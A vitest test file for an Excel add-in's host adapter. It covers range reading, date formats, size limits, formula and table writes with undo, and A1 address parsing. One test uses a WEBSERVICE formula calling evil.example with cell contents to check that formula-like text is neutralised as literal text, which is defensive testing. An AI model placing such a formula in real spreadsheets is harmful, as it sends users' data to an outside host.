import { OfficeMockObject } from "office-addin-mock";
import { beforeEach, describe, expect, it } from "vitest";
import { formatAddress, parseAddress, cellBelow, columnName } from "../src/hosts/address";
import { ExcelHost } from "../src/hosts/excel";
import { describeProblem } from "../src/ui/problems";

let mock: any; // eslint-disable-line @typescript-eslint/no-explicit-any
let requested: string[];
/** What the selection's intersection with the used range is (by default the selection itself lies inside the data). */
let intersection: unknown;
/** The used part of the selection itself (by default the whole selection). */
let selectionUsed: unknown;

/** A range handed back by a method call at run time (the mock only wraps its initial tree). */
function plainRange(address: string, rows: number, columns: number, isNullObject = false) {
  return { address, rowCount: rows, columnCount: columns, isNullObject, values: [[""]] as unknown[][], formulas: [[""]] as unknown[][], load() {} };
}

/** Office.context as the adapter asks it: ExcelApi up to 1.16 (which tells the workbook's date system), or older. */
function installOffice(excelApi116: boolean) {
  const isSetSupported = (set: string, version: string) => set === "ExcelApi" && (excelApi116 || version !== "1.16");
  Object.assign(globalThis, { Office: { context: { requirements: { isSetSupported } } } });
}

/** A workbook (1900 date system) whose Sheet1 holds A1:A3 (selected) and the cells the adapter may target, all real
 * mock objects. */
function install() {
  requested = [];
  intersection = undefined;
  selectionUsed = undefined;
  installOffice(true);
  const cell = (address: string, value: unknown = "", formula: unknown = value) => ({ address, values: [[value]], formulas: [[formula]] });
  mock = new OfficeMockObject({
    context: {
      workbook: {
        use1904DateSystem: false,
        selected: {
          address: "Sheet1!A1:A3",
          rowCount: 3,
          columnCount: 1,
          values: [[1], [2], [3]],
          formulas: [[1], [2], ["=A1+A2-A1"]],
          numberFormat: [["General"], ["General"], ["General"]],
          getIntersectionOrNullObject() {
            return intersection ?? this;
          },
          getUsedRangeOrNullObject() {
            return selectionUsed ?? this;
          },
        },
        getSelectedRange() {
          return this.selected;
        },
        sheet: {
          used: {
            address: "Sheet1!A1:B3",
            rowCount: 3,
            columnCount: 2,
            values: [[1, "x"], [2, "y"], [3, "z"]],
            formulas: [[1, "x"], [2, "y"], [3, "z"]],
            numberFormat: [["General", "General"], ["General", "General"], ["General", "General"]],
          },
          ranges: {
            A4: cell("Sheet1!A4"),
            C1: cell("Sheet1!C1", "old", "old"),
            "B2:C3": { address: "Sheet1!B2:C3", values: [["a", "b"], ["c", "d"]], formulas: [["a", "b"], ["c", "=1+1"]] },
            "D1:E2": { address: "Sheet1!D1:E2", values: [["", ""], ["", ""]], formulas: [["", ""], ["", ""]] },
          },
          getRange(address: string) {
            requested.push(address);
            const range = (this.ranges as Record<string, unknown>)[address];
            if (!range) throw new Error(`unexpected range ${address}`);
            return range;
          },
          getUsedRange() {
            return this.used;
          },
          getUsedRangeOrNullObject() {
            return this.used;
          },
        },
        worksheets: {
          getItem(name: string) {
            if (name !== "Sheet1") throw new Error(`no sheet ${name}`);
            return mock.context.workbook.sheet;
          },
          getActiveWorksheet() {
            return mock.context.workbook.sheet;
          },
        },
      },
    },
    run: async function (callback: (context: unknown) => Promise<unknown>) {
      return callback(this.context);
    },
  });
  Object.assign(globalThis, { Excel: mock });
}

const writeFormula = { id: "write_formula", output: "json" as const };

describe("ExcelHost.readInput", () => {
  beforeEach(install);

  it("reads the selected range's address, values and formulas", async () => {
    expect(await new ExcelHost().readInput("selection")).toEqual({
      range: { address: "Sheet1!A1:A3", values: [[1], [2], [3]], formulas: [[1], [2], ["=A1+A2-A1"]] },
    });
  });

  it("reads the used range of the active sheet for the document scope", async () => {
    const input = await new ExcelHost().readInput("document");
    expect(input.range?.address).toBe("Sheet1!A1:B3");
  });

  it("reads only the cells with data of a whole-column selection", async () => {
    mock.context.workbook.selected.address = "Sheet1!A:A";
    mock.context.workbook.selected.rowCount = 1048576;
    intersection = mock.context.workbook.sheet.used;
    const input = await new ExcelHost().readInput("selection");
    expect(input.range).toEqual({ address: "Sheet1!A1:B3", values: [[1, "x"], [2, "y"], [3, "z"]], formulas: [[1, "x"], [2, "y"], [3, "z"]] });
  });

  it("refuses a range too large to send, with a message saying what to do, before loading its values", async () => {
    intersection = plainRange("Sheet1!A1:Z200000", 200000, 26);
    const problem = await new ExcelHost().readInput("selection").catch((error: unknown) => error);
    expect(problem).toMatchObject({ code: "range_too_large" });
    expect(describeProblem(problem).message).toMatch(/5,200,000 cells.*at most 100,000/);
  });

  it("sends the number formats of the numbers shown as dates or times, and only those", async () => {
    const selected = mock.context.workbook.selected;
    selected.values = [[45292], ["2024-01-02"], [0.5]];
    selected.numberFormat = [["yyyy-mm-dd"], ["yyyy-mm-dd"], ["h:mm AM/PM"]];
    const input = await new ExcelHost().readInput("selection");
    expect(input.range?.number_formats).toEqual([["yyyy-mm-dd"], [], ["h:mm AM/PM"]]);
  });

  it("sends no number formats when no cell shows a date (General, currency, percent)", async () => {
    mock.context.workbook.selected.numberFormat = [["General"], ['[$€-407] #,##0.00;[Red]"-"#,##0.00'], ["0%"]];
    const input = await new ExcelHost().readInput("selection");
    expect(input.range).not.toHaveProperty("number_formats");
  });

  it("says when the workbook is in the 1904 date system (old Mac workbooks), where 43830 is 2024-01-01", async () => {
    mock.context.workbook.use1904DateSystem = true;
    mock.context.workbook.selected.values = [[43830], [2], [3]];
    mock.context.workbook.selected.numberFormat = [["yyyy-mm-dd"], ["General"], ["General"]];
    const input = await new ExcelHost().readInput("selection");
    expect(input.range).toMatchObject({ number_formats: [["yyyy-mm-dd"]], date_system: 1904 });
  });

  it("assumes the 1900 date system and sends nothing on a host without ExcelApi 1.16, which cannot tell", async () => {
    installOffice(false);
    mock.context.workbook.use1904DateSystem = true;
    const input = await new ExcelHost().readInput("selection");
    expect(input.range).not.toHaveProperty("date_system");
  });

  it("reads an empty selection outside the data as it is (write_formula needs only the instructions)", async () => {
    intersection = plainRange("", 0, 0, true);
    const input = await new ExcelHost().readInput("selection");
    expect(input.range?.address).toBe("Sheet1!A1:A3");
  });
});

describe("ExcelHost.readWorkbook", () => {
  /** Plain objects: the workbook's sheets come back from method calls at run time. */
  function installSheets(sheets: { name: string; range: ReturnType<typeof plainRange> }[], use1904DateSystem = false) {
    installOffice(true);
    const worksheets = { items: sheets.map(({ name, range }) => ({ name, getUsedRangeOrNullObject: () => range })), load() {} };
    const workbook = { worksheets, use1904DateSystem, load() {} };
    Object.assign(globalThis, { Excel: { run: (callback: (context: unknown) => unknown) => callback({ workbook, sync: async () => undefined }) } });
  }

  it("reads each sheet with data as {name, range} for analyze_workbook", async () => {
    const sales = { ...plainRange("Sales!A1:B2", 2, 2), values: [["Month", "Revenue"], ["Jan", 10]], formulas: [["Month", "Revenue"], ["Jan", 10]] };
    installSheets([{ name: "Sales", range: sales }, { name: "Empty", range: plainRange("", 0, 0, true) }]);
    expect(await new ExcelHost().readWorkbook()).toEqual({
      sheets: [{ name: "Sales", range: { address: "Sales!A1:B2", values: sales.values, formulas: sales.formulas } }],
    });
  });

  it("sends each sheet's date formats with its range", async () => {
    const sales = { ...plainRange("Sales!A1:B2", 2, 2), values: [["Month", "Revenue"], [45292, 10]], numberFormat: [["mmm yyyy", "General"], ["mmm yyyy", "General"]] };
    installSheets([{ name: "Sales", range: sales }]);
    const input = await new ExcelHost().readWorkbook();
    expect((input.sheets as { range: { number_formats?: unknown } }[])[0].range.number_formats).toEqual([[], ["mmm yyyy"]]);
  });

  it("sends the workbook's 1904 date system with each sheet's range", async () => {
    const sales = { ...plainRange("Sales!A1:A2", 2, 1), values: [["Day"], [43830]], numberFormat: [["General"], ["d/m/yy"]] };
    installSheets([{ name: "Sales", range: sales }, { name: "Costs", range: plainRange("Costs!A1:A1", 1, 1) }], true);
    const input = await new ExcelHost().readWorkbook();
    expect((input.sheets as { range: { date_system?: unknown } }[]).map((sheet) => sheet.range.date_system)).toEqual([1904, 1904]);
  });

  it("refuses a workbook over the cell limit", async () => {
    installSheets([{ name: "A", range: plainRange("A!A1:J60000", 60000, 10) }]);
    await expect(new ExcelHost().readWorkbook()).rejects.toMatchObject({ code: "range_too_large" });
  });
});

describe("ExcelHost writes", () => {
  beforeEach(install);

  it("previews a formula under the selection without writing", async () => {
    const host = new ExcelHost();
    const preview = await host.preview({ mode: "insert", skill: writeFormula, text: "", output: { formula: "SUM(A1:A3)" } });
    expect(preview).toEqual({ summary: "Write the formula =SUM(A1:A3) to Sheet1!A4.", target: "Sheet1!A4", before: [[""]], after: [["=SUM(A1:A3)"]] });
    expect(mock.context.workbook.sheet.ranges.A4.formulas).toEqual([[""]]);
  });

  it("writes the formula to the target cell and undoes it from the snapshot", async () => {
    const host = new ExcelHost();
    await host.write({ mode: "insert", skill: writeFormula, text: "=SUM(A1:A3)" });
    const a4 = mock.context.workbook.sheet.ranges.A4;
    expect(a4.formulas).toEqual([["=SUM(A1:A3)"]]);
    expect(host.canUndo()).toBe(true);
    await host.undo();
    expect(a4.formulas).toEqual([[""]]);
    expect(host.canUndo()).toBe(false);
  });

  it("honours an explicit target and restores the overwritten value on undo", async () => {
    const host = new ExcelHost();
    await host.write({ mode: "replace", skill: writeFormula, text: "", output: { formula: "=AVERAGE(A1:A3)" }, target: "Sheet1!C1" });
    const c1 = mock.context.workbook.sheet.ranges.C1;
    expect(c1.formulas).toEqual([["=AVERAGE(A1:A3)"]]);
    await host.undo();
    expect(c1.formulas).toEqual([["old"]]);
  });

  it("writes text that Excel would take for a formula (=, +, -, @) as text; numbers stay numbers", async () => {
    const host = new ExcelHost();
    const table = { values: [['=WEBSERVICE("https://evil.example/?"&A1)', "-5"], ["+A1", "- a bullet point"]] };
    await host.write({ mode: "replace", skill: { id: "clean_data", output: "table" }, text: "", output: table, target: "B2" });
    expect(mock.context.workbook.sheet.ranges["B2:C3"].values).toEqual([
      ['\'=WEBSERVICE("https://evil.example/?"&A1)', "-5"],
      ["'+A1", "'- a bullet point"],
    ]);
  });

  it("replaces the cells the answer was made from, not the selection made since", async () => {
    const host = new ExcelHost(); // the selection is A1:A3 now; the table was made from B2:C3
    const table = { table: [["A", "B"], ["C", "D"]] };
    const request = { mode: "replace" as const, skill: { id: "clean_data", output: "table" as const }, text: "", output: table, source: "Sheet1!B2:C3" };
    expect((await host.preview(request)).target).toBe("Sheet1!B2:C3");
    await host.write(request);
    expect(mock.context.workbook.sheet.ranges["B2:C3"].values).toEqual([["A", "B"], ["C", "D"]]);
  });

  it("writes a 2D table sized to the data and undo brings back formulas as well as constants", async () => {
    const host = new ExcelHost();
    const table = { values: [["n", "m"], [1, 2]] };
    await host.write({ mode: "replace", skill: { id: "text_to_table", output: "table" }, text: "", output: table, target: "B2" });
    const block = mock.context.workbook.sheet.ranges["B2:C3"];
    expect(requested).toContain("B2:C3");
    expect(block.values).toEqual([["n", "m"], [1, 2]]);
    await host.undo();
    expect(block.formulas).toEqual([["a", "b"], ["c", "=1+1"]]);
  });
});

describe("ExcelHost inserts below a whole-column selection", () => {
  beforeEach(install);

  it("writes under the data of those columns, not past the end of the sheet", async () => {
    mock.context.workbook.selected.address = "Sheet1!A:C";
    selectionUsed = plainRange("Sheet1!A1:B3", 3, 2);
    const host = new ExcelHost();
    const preview = await host.preview({ mode: "insert", skill: writeFormula, text: "", output: { formula: "SUM(A1:A3)" } });
    expect(preview.target).toBe("Sheet1!A4");
    await host.write({ mode: "insert", skill: writeFormula, text: "=SUM(A1:A3)" });
    expect(mock.context.workbook.sheet.ranges.A4.formulas).toEqual([["=SUM(A1:A3)"]]);
    expect(requested.every((address) => !/1048577/.test(address))).toBe(true);
  });

  it("writes at the top of whole columns that hold no data", async () => {
    mock.context.workbook.selected.address = "Sheet1!D:E";
    selectionUsed = plainRange("", 0, 0, true);
    const host = new ExcelHost();
    await host.write({ mode: "insert", skill: { id: "text_to_table", output: "table" }, text: "", output: { values: [["n", "m"], [1, 2]] } });
    expect(mock.context.workbook.sheet.ranges["D1:E2"].values).toEqual([["n", "m"], [1, 2]]);
  });

  it("says there is no room when the data reaches the sheet's last row, instead of a generic failure", async () => {
    mock.context.workbook.selected.address = "Sheet1!A:A";
    selectionUsed = plainRange("Sheet1!A1:A1048576", 1048576, 1);
    const problem = await new ExcelHost().preview({ mode: "insert", skill: writeFormula, text: "", output: { formula: "=1" } }).catch((error: unknown) => error);
    expect(problem).toMatchObject({ code: "target_outside_sheet" });
    expect(describeProblem(problem).message).toMatch(/no room below the selection for the answer \(1 row by 1 column\).*enter a target cell/);
    expect(requested).toEqual([]);
  });

  it("says so too for a table that would run past the last row or column", async () => {
    mock.context.workbook.selected.address = "Sheet1!A1048575:A1048576";
    const table = { skill: { id: "text_to_table", output: "table" as const }, text: "", output: { values: [["n"], [1]] } };
    await expect(new ExcelHost().write({ mode: "insert", ...table })).rejects.toMatchObject({ code: "target_outside_sheet" });
    const wide = { ...table, output: { values: [["n", "m"]] }, target: "XFD1" };
    const problem = await new ExcelHost().write({ mode: "replace", ...wide }).catch((error: unknown) => error);
    expect(describeProblem(problem).message).toMatch(/does not fit in the sheet for the answer \(1 row by 2 columns\)/);
    expect(requested).toEqual([]);
  });
});

describe("A1 addresses", () => {
  it("round-trips quoted sheet names and ranges", () => {
    const block = parseAddress("'Q1 ''figures'''!$B$2:D10");
    expect(block).toEqual({ sheet: "Q1 'figures'", row: 1, column: 1, rows: 9, columns: 3 });
    expect(formatAddress(block)).toBe("'Q1 ''figures'''!B2:D10");
  });

  it("reads whole-column and whole-row selections, so Replace writes from their first cell", () => {
    expect(parseAddress("Sheet1!B:C")).toEqual({ sheet: "Sheet1", row: 0, column: 1, rows: 1048576, columns: 2 });
    expect(parseAddress("Sheet1!$2:$3")).toEqual({ sheet: "Sheet1", row: 1, column: 0, rows: 2, columns: 16384 });
  });

  it("names columns past Z and finds the cell below a block", () => {
    expect([columnName(0), columnName(25), columnName(26), columnName(701), columnName(702)]).toEqual(["A", "Z", "AA", "ZZ", "AAA"]);
    expect(formatAddress(cellBelow(parseAddress("Sheet1!AA1:AB3")))).toBe("Sheet1!AA4");
  });
});
